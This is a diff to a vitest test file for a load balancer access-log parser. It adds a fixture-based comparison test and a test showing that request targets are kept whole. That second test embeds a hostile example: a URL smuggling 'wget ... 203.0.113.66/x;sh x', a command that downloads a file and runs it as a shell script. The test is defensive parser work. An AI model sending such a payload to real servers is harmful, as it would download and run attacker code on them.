@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { gunzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { parseLoadBalancerLog } from '../../src/parsers/load-balancer-log.js';
 
@@ -30,6 +32,38 @@ describe('access logs of load balancers', () => {
       agent: 'curl/7.38.0',
     });
     expect(parseLoadBalancerLog(TCP)).toMatchObject({ method: '-', status: 0, bytes: 305, agent: undefined });
+  });
+
+  it('say what elblog2dict 1.0.1 of PyPI says, which reads them by the expression of AWS’s own table for Athena', () => {
+    const bytes = readFileSync(new URL('fixtures/load-balancer.json.gz', import.meta.url));
+    const { lines, parsed }: { lines: string[]; parsed: Record<string, string>[] } = JSON.parse(
+      gunzipSync(bytes).toString('utf8'),
+    );
+    expect(lines).toHaveLength(120);
+    for (const [index, theirs] of parsed.entries())
+      expect(parseLoadBalancerLog(lines[index] ?? '')).toEqual({
+        atMs: Date.parse(theirs['timestamp'] ?? ''),
+        client: theirs['client_ip']?.replace(/[[\]]/g, ''),
+        user: '-',
+        method: theirs['request_method'],
+        target: theirs['url'],
+        status: Number(theirs['elb_status_code']),
+        bytes: Number(theirs['sent_bytes']),
+        referer: undefined,
+        agent: theirs['user_agent'] === '-' ? undefined : theirs['user_agent'],
+      });
+  });
+
+  it('keep what stands behind a blank in the address: it may be the attack', () => {
+    const line = APPLICATION.replace(':443/ HTTP', ':443/shell?wget+ 203.0.113.66/x;sh+x HTTP');
+    expect(parseLoadBalancerLog(line)?.target).toBe(
+      'https://www.example.com:443/shell?wget+ 203.0.113.66/x;sh+x',
+    );
+    for (const request of ['- http://x:80- -', '- http://x:80- '])
+      expect(parseLoadBalancerLog(APPLICATION.replace(/"GET [^"]*"/, `"${request}"`))).toMatchObject({
+        method: '-',
+        target: 'http://x:80-',
+      });
   });
 
   it('take clients of IPv6, and agents with quotes', () => {
